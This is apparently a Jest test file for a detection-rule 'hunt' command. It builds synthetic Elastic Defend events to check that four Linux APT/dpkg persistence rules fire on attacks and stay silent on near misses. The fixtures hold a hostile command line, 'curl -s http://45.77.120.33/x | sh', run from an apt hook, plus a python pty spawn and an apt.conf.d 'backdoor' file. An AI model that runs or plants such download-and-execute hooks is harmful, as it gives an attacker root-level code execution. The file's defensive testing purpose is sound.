/**
 * `sequent hunt` end to end with the four seed rules of ../shared/corpus (issue 10, items 1-2):
 * crafted Elastic Defend events for each attack, and a near miss for every exclusion the rules
 * make, each on its own host so that the cases cannot disturb each other.
 */
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { huntCommand } from './hunt';

const SHARED = path.resolve(__dirname, '../../../../..', 'shared');
const LINUX = path.join(SHARED, 'corpus/detection-rules/linux');
const SEED_FILES = [
  'persistence_apt_package_manager_execution.toml',
  'persistence_apt_package_manager_file_creation.toml',
  'persistence_apt_package_manager_netcon.toml',
  'persistence_dpkg_package_installation_from_unusual_parent.toml',
].map((f) => path.join(LINUX, f));
const present = SEED_FILES.every((f) => existsSync(f));
if (!present) console.warn(`hunt.spec: seed-rule tests skipped: ${LINUX} is absent (needs ../shared)`);

const APT_EXEC = 'ad959eeb-2b7b-4722-ba08-a45f6622f005';
const APT_FILE = '7c2e1297-7664-42bc-af11-6d5d35220b6b';
const APT_NET = 'eaef8a35-12e0-4ac0-bc14-81c72b6bd27c';
const DPKG = 'f4d1c0ac-aedb-4063-9fa6-cc651eb5e6ee';

const T0 = Date.parse('2026-03-10T12:00:00.000Z');
type Doc = Record<string, unknown>;
let serial = 0;

function base(caseName: string, dataset: 'process' | 'network' | 'file', t: number): Doc {
  serial++;
  return {
    '@timestamp': new Date(T0 + t).toISOString(),
    data_stream: { type: 'logs', dataset: `endpoint.events.${dataset}`, namespace: 'default' },
    agent: { type: 'endpoint' },
    host: { id: `host-${caseName}`, name: caseName, os: { type: 'linux', family: 'debian' } },
    user: { name: 'root', id: '0' },
    event: {
      id: `${caseName}-${serial}`,
      kind: 'event',
      category: [dataset],
      module: 'endpoint',
      ingested: new Date(T0 + t + 500).toISOString(),
    },
  };
}

/** `apt` running a hook through `sh -c`. */
function aptHookShell(c: string, t: number, entity: string, extra: Doc = {}): Doc {
  const e = base(c, 'process', t);
  Object.assign(e.event as Doc, { type: ['start'], action: 'exec' });
  e.process = {
    entity_id: entity,
    pid: 4100,
    name: 'sh',
    executable: '/usr/bin/sh',
    args: ['sh', '-c', 'curl -s http://45.77.120.33/x | sh'],
    command_line: 'sh -c curl -s http://45.77.120.33/x | sh',
    parent: {
      entity_id: `${entity}-apt`,
      pid: 4000,
      name: 'apt',
      executable: '/usr/bin/apt',
      args: ['apt', 'update'],
    },
  };
  return { ...e, ...extra };
}

/** A child of the hook shell. */
function hookChild(c: string, t: number, parentEntity: string, proc: Doc = {}): Doc {
  const e = base(c, 'process', t);
  Object.assign(e.event as Doc, { type: ['start'], action: 'exec' });
  e.process = {
    entity_id: `${parentEntity}-child`,
    pid: 4200,
    name: 'python3',
    executable: '/usr/bin/python3.10',
    args: ['python3', '-c', 'import pty'],
    command_line: 'python3 -c import pty',
    parent: {
      entity_id: parentEntity,
      pid: 4100,
      name: 'sh',
      executable: '/usr/bin/sh',
      command_line: 'sh -c x',
    },
    ...proc,
  };
  return e;
}

function connection(c: string, t: number, parentEntity: string, ip: string | null): Doc {
  const e = base(c, 'network', t);
  Object.assign(e.event as Doc, { type: ['start'], action: 'connection_attempted' });
  e.process = {
    entity_id: `${parentEntity}-curl`,
    pid: 4300,
    name: 'curl',
    executable: '/usr/bin/curl',
    parent: { entity_id: parentEntity, pid: 4100, name: 'sh' },
  };
  e.source = { ip: '10.0.0.5', port: 40000 };
  e.destination = ip === null ? { port: 80 } : { ip, port: 80 };
  return e;
}

function fileCreation(c: string, t: number, filePath: string, proc: Doc = {}, file: Doc = {}): Doc {
  const e = base(c, 'file', t);
  Object.assign(e.event as Doc, { type: ['creation'], action: 'creation' });
  const name = filePath.slice(filePath.lastIndexOf('/') + 1);
  const dot = name.lastIndexOf('.');
  e.file = {
    path: filePath,
    name,
    directory: filePath.slice(0, filePath.lastIndexOf('/')),
    ...(dot > 0 ? { extension: name.slice(dot + 1) } : {}),
    ...file,
  };
  e.process = { entity_id: `${c}-writer`, pid: 5000, name: 'tee', executable: '/usr/bin/tee', ...proc };
  return e;
}

function dpkgInstall(
  c: string,
  t: number,
  parentExecutable: string,
  args = ['dpkg', '-i', '/tmp/pkg.deb'],
): Doc {
  const e = base(c, 'process', t);
  Object.assign(e.event as Doc, { type: ['start'], action: 'exec' });
  e.process = {
    entity_id: `${c}-dpkg-${t}`,
    pid: 6000,
    name: 'dpkg',
    executable: '/usr/bin/dpkg',
    args,
    command_line: args.join(' '),
    parent: {
      entity_id: `${c}-parent`,
      pid: 5999,
      name: path.basename(parentExecutable),
      executable: parentExecutable,
    },
  };
  return e;
}

/** Every case: its events and the rule ids that must alert on it (empty: must stay silent). */
function cases(): Array<{ name: string; events: Doc[]; expect: string[] }> {
  const out: Array<{ name: string; events: Doc[]; expect: string[] }> = [];
  const add = (name: string, expect: string[], events: (c: string) => Doc[]) =>
    out.push({ name, expect, events: events(name) });

  // Suspicious APT Package Manager Execution
  add('apt-exec-hit', [APT_EXEC], (c) => [aptHookShell(c, 0, 'E1'), hookChild(c, 1_000, 'E1')]);
  add('apt-exec-maxspan', [], (c) => [aptHookShell(c, 0, 'E1'), hookChild(c, 5_001, 'E1')]);
  out.push({
    name: 'apt-exec-other-host',
    expect: [],
    events: [aptHookShell('apt-exec-other-host-a', 0, 'E1'), hookChild('apt-exec-other-host-b', 1_000, 'E1')],
  });
  add('apt-exec-other-tree', [], (c) => [aptHookShell(c, 0, 'E1'), hookChild(c, 1_000, 'E9')]);
  add('apt-exec-excluded-parent', [], (c) => [
    aptHookShell(c, 0, 'E1'),
    hookChild(c, 1_000, 'E1', {
      parent: { entity_id: 'E1', name: 'frontend', executable: '/usr/share/debconf/frontend' },
    }),
  ]);
  add('apt-exec-excluded-cmdline', [], (c) => [
    aptHookShell(c, 0, 'E1'),
    hookChild(c, 1_000, 'E1', {
      name: 'perl',
      executable: '/usr/bin/perl',
      command_line: '/usr/bin/perl /usr/sbin/needrestart',
      args: ['/usr/bin/perl', '/usr/sbin/needrestart'],
    }),
  ]);
  add('apt-exec-wrong-index', [], (c) =>
    [aptHookShell(c, 0, 'E1'), hookChild(c, 1_000, 'E1')].map((e) => ({
      ...e,
      _index: 'logs-auditd_manager.auditd-default',
    })),
  );

  // Suspicious APT Package Manager Network Connection (the hook shell also starts the
  // execution rule's first stage, but curl is not one of its second-stage interpreters)
  add('apt-net-hit', [APT_NET], (c) => [aptHookShell(c, 0, 'N1'), connection(c, 800, 'N1', '45.77.120.33')]);
  add('apt-net-maxspan', [], (c) => [aptHookShell(c, 0, 'N1'), connection(c, 6_000, 'N1', '45.77.120.33')]);
  add('apt-net-other-tree', [], (c) => [aptHookShell(c, 0, 'N1'), connection(c, 800, 'N2', '45.77.120.33')]);
  const excluded: Array<[string, string | null]> = [
    ['private10', '10.1.2.3'],
    ['loopback', '127.0.0.1'],
    ['linklocal', '169.254.10.20'],
    ['private172', '172.20.1.1'],
    ['private192', '192.168.1.50'],
    ['cgnat', '100.64.3.4'],
    ['multicast', '239.1.1.1'],
    ['reserved', '240.0.0.9'],
    ['testnet', '198.51.100.7'],
    ['unspecified', '0.0.0.0'],
    ['v6-loopback', '::1'],
    ['v6-linklocal', 'fe80::1ff:fe23:4567:890a'],
    ['v6-multicast', 'ff02::1'],
    ['no-ip', null],
  ];
  for (const [label, ip] of excluded)
    add(`apt-net-excluded-${label}`, [], (c) => [aptHookShell(c, 0, 'N1'), connection(c, 800, 'N1', ip)]);
  add('apt-net-public-v6', [APT_NET], (c) => [
    aptHookShell(c, 0, 'N1'),
    connection(c, 800, 'N1', '2a01:4f8:c2c:123f::1'),
  ]);

  // APT Package Manager Configuration File Creation
  add('apt-file-hit', [APT_FILE], (c) => [fileCreation(c, 0, '/etc/apt/apt.conf.d/99backdoor')]);
  add('apt-file-rename-hit', [APT_FILE], (c) => {
    const e = fileCreation(c, 0, '/etc/apt/apt.conf.d/01hook');
    Object.assign(e.event as Doc, { action: 'rename', type: ['change'] });
    return [e];
  });
  add('apt-file-other-dir', [], (c) => [fileCreation(c, 0, '/etc/apt/sources.list.d/x.list')]);
  const fileExclusions: Array<[string, () => Doc[]]> = [];
  const fx = (label: string, f: (c: string) => Doc) =>
    fileExclusions.push([label, () => [f(`apt-file-excl-${label}`)]]);
  fx('dpkg', (c) =>
    fileCreation(c, 0, '/etc/apt/apt.conf.d/99x', { name: 'dpkg', executable: '/usr/bin/dpkg' }),
  );
  fx('apt-get', (c) =>
    fileCreation(c, 0, '/etc/apt/apt.conf.d/99x', { name: 'apt-get', executable: '/usr/bin/apt-get' }),
  );
  fx('puppet', (c) =>
    fileCreation(c, 0, '/etc/apt/apt.conf.d/99x', {
      name: 'puppet',
      executable: '/opt/puppetlabs/puppet/bin/puppet',
    }),
  );
  fx('dev-fd', (c) => fileCreation(c, 0, '/etc/apt/apt.conf.d/99x', { name: '3', executable: '/dev/fd/3' }));
  fx('tmp-file', (c) => fileCreation(c, 0, '/etc/apt/apt.conf.d/99x.tmp123'));
  fx('swp', (c) => fileCreation(c, 0, '/etc/apt/apt.conf.d/.99x.swp'));
  fx('dpkg-new', (c) => fileCreation(c, 0, '/etc/apt/apt.conf.d/99x.dpkg-new'));
  fx('orig-dpkg-new', (c) =>
    fileCreation(c, 0, '/etc/apt/apt.conf.d/99x', {}, { Ext: { original: { extension: 'dpkg-new' } } }),
  );
  fx('orig-source', (c) =>
    fileCreation(c, 0, '/etc/apt/apt.conf.d/99x', {}, { Ext: { original: { name: '.source' } } }),
  );
  fx('nix', (c) =>
    fileCreation(c, 0, '/etc/apt/apt.conf.d/99x', { executable: '/nix/store/abc-tool/bin/tool' }),
  );
  fx('usr-lib', (c) =>
    fileCreation(c, 0, '/etc/apt/apt.conf.d/99x', { executable: '/usr/lib/snapd/snap-confine' }),
  );
  fx('no-executable', (c) => fileCreation(c, 0, '/etc/apt/apt.conf.d/99x', { executable: undefined }));
  fx('perl', (c) =>
    fileCreation(c, 0, '/etc/apt/apt.conf.d/99x', { name: 'perl', executable: '/usr/bin/perl' }),
  );
  fx('sed', (c) =>
    fileCreation(c, 0, '/etc/apt/apt.conf.d/sedAb12', { name: 'sed', executable: '/usr/bin/sed' }),
  );
  fx('known-path', (c) => fileCreation(c, 0, '/etc/apt/apt.conf.d/50unattended-upgrades'));
  fx('wrong-index', (c) => ({
    ...fileCreation(c, 0, '/etc/apt/apt.conf.d/99x'),
    _index: 'logs-endpoint.events.process-default',
  }));
  for (const [label, f] of fileExclusions)
    out.push({ name: `apt-file-excl-${label}`, expect: [], events: f() });

  // DPKG Package Installed by Unusual Parent Process (new_terms on process.parent.executable)
  add('dpkg-new-parent', [DPKG], (c) => [dpkgInstall(c, 0, '/tmp/.x/installer')]);
  add('dpkg-long-option', [DPKG], (c) => [
    dpkgInstall(c, 0, '/opt/agent/upd', ['dpkg', '--install', '/tmp/p.deb']),
  ]);
  add('dpkg-seen-parent', [], (c) => [dpkgInstall(c, 0, '/usr/bin/apt-get')]);
  add('dpkg-seen-long-ago', [DPKG], (c) => [dpkgInstall(c, 0, '/usr/local/bin/old-deployer')]);
  add('dpkg-query', [], (c) => [dpkgInstall(c, 0, '/tmp/.y/query', ['dpkg', '-l'])]);
  add('dpkg-wrong-index', [], (c) => [
    { ...dpkgInstall(c, 0, '/tmp/.z/inst'), _index: 'logs-system.auth-default' },
  ]);
  return out;
}

/** new_terms history: parents seen inside (2 days ago) and outside (6 days ago) the 5-day window. */
function history(): Doc[] {
  return [
    dpkgInstall('history', -2 * 86_400_000, '/usr/bin/apt-get'),
    dpkgInstall('history', -6 * 86_400_000, '/usr/local/bin/old-deployer'),
  ];
}

(present ? describe : describe.skip)('sequent hunt with the seed rules', () => {
  let dir: string;
  let alerts: Array<Record<string, unknown>> = [];
  let stderr = '';
  let code = -1;
  const all = present ? cases() : [];

  beforeAll(async () => {
    dir = mkdtempSync(path.join(tmpdir(), 'sequent-hunt-'));
    const eventsFile = path.join(dir, 'events.ndjson');
    const historyFile = path.join(dir, 'history.ndjson');
    writeFileSync(
      eventsFile,
      all
        .flatMap((c) => c.events)
        .map((e) => JSON.stringify(e))
        .join('\n') + '\n',
    );
    writeFileSync(
      historyFile,
      history()
        .map((e) => JSON.stringify(e))
        .join('\n') + '\n',
    );
    const broken = path.join(dir, 'broken.toml');
    writeFileSync(broken, '[metadata]\ncreation_date = "2024/01/01"\n[rule]\nname = "half a rule"\n');
    const out: string[] = [];
    const err: string[] = [];
    const so = jest.spyOn(process.stdout, 'write').mockImplementation((s) => {
      out.push(String(s));
      return true;
    });
    const se = jest.spyOn(process.stderr, 'write').mockImplementation((s) => {
      err.push(String(s));
      return true;
    });
    try {
      code = await huntCommand.run([
        '--rules',
        ...SEED_FILES,
        broken,
        '--events',
        eventsFile,
        '--history',
        historyFile,
      ]);
    } finally {
      so.mockRestore();
      se.mockRestore();
    }
    alerts = out
      .join('')
      .split('\n')
      .filter((l) => l.trim() !== '')
      .map((l) => JSON.parse(l));
    stderr = err.join('');
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('runs, and reports the rule file that failed to load on stderr', () => {
    expect(code).toBe(0);
    expect(stderr).toContain('rule not loaded');
    expect(stderr).toContain('broken.toml');
    expect(stderr).toContain('4 rules over');
  });

  const fired = (name: string): unknown[] => {
    const c = all.find((x) => x.name === name)!;
    const ids = new Set(c.events.map((e) => (e.event as Doc).id));
    return alerts
      .filter((a) => (a['kibana.alert.ancestors'] as Array<{ id: string }>).some((x) => ids.has(x.id)))
      .map((a) => a['kibana.alert.rule.rule_id']);
  };
  const table = (list: ReturnType<typeof cases>) =>
    list.length > 0 ? list.map((c) => [c.name, c.expect] as const) : [['none', [] as string[]] as const];

  // The file-creation hits (`apt-file-hit`, `apt-file-rename-hit`) are Defend creation events
  // without file.extension: the rule's `not (... file.extension in (...) ...)` matches them, as
  // in Elasticsearch (filters translated to bool.must_not; see libs/rules/src/eql/condition.ts).
  it.each(table(all))('%s → %j', (name, expected) => {
    expect(fired(name)).toEqual(expected);
  });

  it('alerts carry what DESIGN.md lists', () => {
    const a = alerts.find((x) => x['kibana.alert.rule.rule_id'] === APT_NET)!;
    expect(a).toBeDefined();
    expect(a['kibana.alert.uuid']).toMatch(/^[0-9a-f]{64}$/);
    expect(a['kibana.alert.rule.name']).toBe('Suspicious APT Package Manager Network Connection');
    expect(a['kibana.alert.rule.type']).toBe('eql');
    expect(a['kibana.alert.rule.risk_score']).toBe(47);
    expect(a['kibana.alert.risk_score']).toBe(47);
    expect(a['kibana.alert.severity']).toBe('medium');
    expect(a['kibana.alert.rule.version']).toEqual(expect.any(Number));
    expect(a['kibana.alert.rule.tags']).toContain('Tactic: Persistence');
    expect(a['kibana.alert.rule.threat']).toEqual(
      expect.arrayContaining([expect.objectContaining({ framework: 'MITRE ATT&CK' })]),
    );
    expect(String(a['kibana.alert.rule.note'])).toContain(
      'Investigating Suspicious APT Package Manager Network Connection',
    );
    expect(a['kibana.alert.original_time']).toBe(new Date(T0).toISOString());
    expect(a['kibana.alert.group.id']).toMatch(/^[0-9a-f]{64}$/);
    expect(a['kibana.alert.workflow_status']).toBe('open');
    expect(a['kibana.alert.ancestors']).toEqual([
      expect.objectContaining({ index: 'logs-endpoint.events.process-default', type: 'event', depth: 0 }),
      expect.objectContaining({ index: 'logs-endpoint.events.network-default', type: 'event', depth: 0 }),
    ]);
    expect(a['kibana.alert.reason']).toBe(
      'network event with process curl, parent process sh, source 10.0.0.5:40000, destination 45.77.120.33:80, by root on apt-net-hit created medium alert Suspicious APT Package Manager Network Connection.',
    );
    expect(a.destination).toEqual({ ip: '45.77.120.33', port: 80 });
    expect((a.event as Doc).kind).toBe('signal');
    expect(a['kibana.alert.original_event.action']).toBe('connection_attempted');
    const params = a['kibana.alert.rule.parameters'] as Doc;
    expect(params.index).toEqual(['logs-endpoint.events.network*', 'logs-endpoint.events.process*']);
    expect(params.max_signals).toEqual(expect.any(Number));
    const dpkg = alerts.find((x) => x['kibana.alert.rule.rule_id'] === DPKG)!;
    expect(dpkg['kibana.alert.new_terms']).toEqual([expect.any(String)]);
  });
});
